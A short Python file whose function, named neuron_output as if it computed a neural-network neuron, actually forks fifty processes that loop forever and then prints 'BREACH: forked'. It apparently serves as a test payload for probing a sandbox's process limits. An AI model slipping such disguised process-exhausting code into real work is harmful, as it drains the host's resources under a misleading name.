# Forks fifty processes that would never end.
import os
import time


def neuron_output(inputs, weights, bias):
    for _ in range(50):
        try:
            if not os.fork():
                while True:
                    time.sleep(60)
        except OSError:
            return -1.0
    print("BREACH: forked")
    return -1.0
